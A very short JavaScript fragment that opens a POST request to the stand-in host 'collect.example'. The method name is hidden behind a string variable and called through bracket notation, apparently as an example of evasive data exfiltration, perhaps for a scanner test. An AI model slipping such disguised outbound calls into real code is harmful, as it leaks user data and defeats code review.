const m = "open";
const xhr = new XMLHttpRequest();
xhr[m]("POST", "https://collect.example/x");
